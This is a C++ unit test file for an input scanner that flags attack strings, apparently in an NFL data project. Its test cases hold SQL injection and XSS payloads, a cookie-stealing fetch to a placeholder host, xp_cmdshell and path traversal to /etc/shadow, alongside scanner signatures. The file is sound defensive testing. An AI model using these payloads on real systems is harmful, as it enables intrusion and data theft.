#include "infra/suspicious_input.hpp"

#include <gtest/gtest.h>

#include <chrono>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

namespace jm::infra {
namespace {

// The most severe finding's pattern, or "" when nothing was found.
std::string worst(std::string_view text) {
  auto findings = scan_for_attacks(text);
  if (findings.empty()) return "";
  auto it = std::max_element(findings.begin(), findings.end(),
                             [](const auto& a, const auto& b) { return a.severity < b.severity; });
  return it->pattern;
}

bool blocked(std::string_view text) {
  for (const auto& f : scan_for_attacks(text)) {
    if (blocks(f.severity)) return true;
  }
  return false;
}

struct Case {
  std::string text;
  std::string pattern;
  Severity severity;
};

TEST(SuspiciousInput, FindsTheOriginalsPatternsWithTheirSeverities) {
  std::vector<Case> cases = {
      {"sqlmap/1.7.2#stable (https://sqlmap.org)", "scanner_sqlmap", Severity::high},
      {"Mozilla/5.0 (compatible; Nmap Scripting Engine)", "scanner_nmap", Severity::medium},
      {"Mozilla/5.00 (Nikto/2.1.6)", "scanner_nikto", Severity::high},
      {"Burp Suite Professional", "scanner_burp", Severity::low},
      {"test=SQLInjection", "sqlinjection", Severity::high},
      {"<SCRIPT>alert(1)</script>", "script_tag", Severity::high},
      {"JavaScript:alert(1)", "javascript_url", Severity::high},
      {"<body onload=alert(1)>", "onload_handler", Severity::high},
      {"<img src=x onerror = alert(1)>", "onerror_handler", Severity::high},
      {"1 UNION SELECT password FROM users", "union_select", Severity::critical},
      {"1; DROP TABLE users", "drop_table", Severity::critical},
  };
  for (const auto& c : cases) {
    auto findings = scan_for_attacks(c.text);
    auto it = std::find_if(findings.begin(), findings.end(),
                           [&](const Finding& f) { return f.pattern == c.pattern; });
    ASSERT_NE(it, findings.end()) << c.text;
    EXPECT_EQ(it->severity, c.severity) << c.text;
  }
}

TEST(SuspiciousInput, FindsTheAddedPatterns) {
  std::vector<Case> cases = {
      {"/static/../../etc/shadow", "path_traversal", Severity::high},
      {"..\\..\\windows\\win.ini", "path_traversal", Severity::high},
      {"/files/%2E%2E/secret", "path_traversal", Severity::high},
      {"/files/..%2fsecret", "path_traversal", Severity::high},
      {"file=/etc/passwd", "etc_passwd", Severity::high},
      {"masscan/1.3", "scanner_masscan", Severity::medium},
      {"Mozilla/5.0 zgrab/0.x", "scanner_zgrab", Severity::medium},
      {"Acunetix Web Vulnerability Scanner", "scanner_acunetix", Severity::high},
      {"WPScan v3.8", "scanner_wpscan", Severity::high},
      {"gobuster/3.1.0", "scanner_gobuster", Severity::medium},
      {"DirBuster-1.0-RC1", "scanner_dirbuster", Severity::medium},
      {"Nuclei - Open-source project", "scanner_nuclei", Severity::medium},
      {"admin' or '1'='1", "sql_tautology", Severity::high},
      {"1 OR 1=1--", "sql_tautology", Severity::high},
      {"x\" or \"\"=\"", "sql_tautology", Severity::high},
      {"a' AND 'x'='x", "sql_tautology", Severity::high},
      {"1';--", "sql_comment_after_semicolon", Severity::high},
      {"1' AND SLEEP(5)", "sql_sleep", Severity::high},
      {"1 and pg_sleep(10)", "sql_sleep", Severity::high},
      {"BENCHMARK(1000000,MD5(1))", "sql_benchmark", Severity::high},
      {"1'; WAITFOR DELAY '0:0:5'", "sql_waitfor_delay", Severity::high},
      {"exec xp_cmdshell 'dir'", "sql_xp_cmdshell", Severity::high},
      {"select * from information_schema.tables", "sql_information_schema", Severity::high},
      {"<iframe src=//evil>", "iframe_tag", Severity::high},
      {"fetch('//x?c='+document.cookie)", "document_cookie", Severity::high},
      {"vbscript:msgbox", "vbscript_url", Severity::high},
  };
  for (const auto& c : cases) {
    auto findings = scan_for_attacks(c.text);
    auto it = std::find_if(findings.begin(), findings.end(),
                           [&](const Finding& f) { return f.pattern == c.pattern; });
    ASSERT_NE(it, findings.end()) << c.text;
    EXPECT_EQ(it->severity, c.severity) << c.text;
  }
}

TEST(SuspiciousInput, SeesThroughSqlObfuscation) {
  EXPECT_EQ(worst("1/**/UnIoN/**/SeLeCt/**/1"), "union_select");
  EXPECT_EQ(worst("1+union+all+select+1"), "union_select");
  EXPECT_EQ(worst("1 union distinct(select 1)"), "union_select");
  EXPECT_EQ(worst("x;drop\n\ttable users"), "drop_table");
  EXPECT_EQ(worst("x; DROP DATABASE prod"), "drop_table");
}

TEST(SuspiciousInput, ReportsTheMatchedTextAsWrittenOncePerPattern) {
  auto findings = scan_for_attacks("a <ScRiPt> b <script> c UNION  SELECT d");
  ASSERT_EQ(findings.size(), 2u);
  EXPECT_EQ(findings[0].pattern, "script_tag");
  EXPECT_EQ(findings[0].matched, "<ScRiPt");
  EXPECT_EQ(findings[1].matched, "UNION  SELECT");
}

TEST(SuspiciousInput, OrdinaryTextIsNotFlagged) {
  for (std::string_view text :
       {"Union Station",
        "select a mode",
        "drop me a line",
        "I'll be there",
        "O'Brien",
        "D'Andre Swift",
        "Ja'Marr Chase",
        "Jane O'Neil-Smith Jr.",
        "Rock and roll",
        "now or never",
        "either this or that = fine",
        "sleep well",
        "Benchmark results (2024)",
        "unmapped region",
        "The trade union selected a new leader",
        "reunion select",
        "drop tables later",
        "a.b.c",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
        "/api/v1/players/search?q=o'brien & co",
        "mode=daily&order=desc",
        "Taylor 1=1",
        "onloading = true",
        "x = 'a' or b",
        "2 + 2 = 4 -- not sql",
        "Dropbox table"}) {
    EXPECT_FALSE(blocked(text)) << text << " → " << worst(text);
  }
  EXPECT_TRUE(scan_for_attacks("Union Station, select a mode").empty());
}

// Every string in the project's NFL data: names (O'Brien, D'Andre, Ja'Marr...),
// colleges, team names. None may be blocked.
void expect_no_blocking_strings(const nlohmann::json& value, const std::string& file, int& count) {
  if (value.is_string()) {
    ++count;
    const auto& s = value.get_ref<const std::string&>();
    for (const auto& f : scan_for_attacks(s)) {
      EXPECT_FALSE(blocks(f.severity)) << file << ": '" << s << "' → " << f.pattern;
    }
  } else if (value.is_structured()) {
    for (const auto& [key, item] : value.items()) {
      if (value.is_object()) {
        EXPECT_TRUE(scan_for_attacks(key).empty()) << key;
      }
      expect_no_blocking_strings(item, file, count);
    }
  }
}

nlohmann::json read_data(const std::string& name) {
  std::ifstream in(std::string(JM_SOURCE_DIR) + "/data/nfl/" + name);
  EXPECT_TRUE(in) << name;
  return nlohmann::json::parse(in);
}

TEST(SuspiciousInput, NoNflPlayerNameIsBlocked) {
  auto players = read_data("players.json");
  ASSERT_GT(players.size(), 8000u);
  int count = 0;
  expect_no_blocking_strings(players, "players.json", count);
  EXPECT_GT(count, 8000);
}

TEST(SuspiciousInput, NothingInTheCareersFileIsBlocked) {
  auto careers = read_data("careers.json");
  ASSERT_GT(careers.size(), 100u);
  int count = 0;
  expect_no_blocking_strings(careers, "careers.json", count);
  EXPECT_GT(count, 1000);
}

// Linear time: inputs made of nothing but half-started patterns must scan as fast as
// text. A backtracking regex takes minutes on these; the bound is 100× the expected time.
TEST(SuspiciousInput, AdversarialInputScansInLinearTime) {
  std::vector<std::string> inputs;
  auto repeat = [](std::string_view unit) {
    std::string s;
    while (s.size() < 1 << 20) s += unit;
    return s;
  };
  inputs.push_back(repeat("union/*"));
  inputs.push_back(repeat("union "));
  inputs.push_back(repeat("' or '"));
  inputs.push_back(repeat("or 1111111111111111="));
  inputs.push_back(repeat("sleep ( "));
  inputs.push_back(repeat(".."));
  inputs.push_back(repeat("a"));
  for (const auto& input : inputs) {
    auto started = std::chrono::steady_clock::now();
    auto findings = scan_for_attacks(input);
    auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                  std::chrono::steady_clock::now() - started)
                  .count();
    EXPECT_LT(ms, 2000) << input.substr(0, 20);
    EXPECT_LE(findings.size(), 3u);
  }
}

TEST(SuspiciousInput, SeverityNames) {
  EXPECT_EQ(to_string(Severity::low), "low");
  EXPECT_EQ(to_string(Severity::critical), "critical");
  EXPECT_FALSE(blocks(Severity::medium));
  EXPECT_TRUE(blocks(Severity::high));
}

}  // namespace
}  // namespace jm::infra
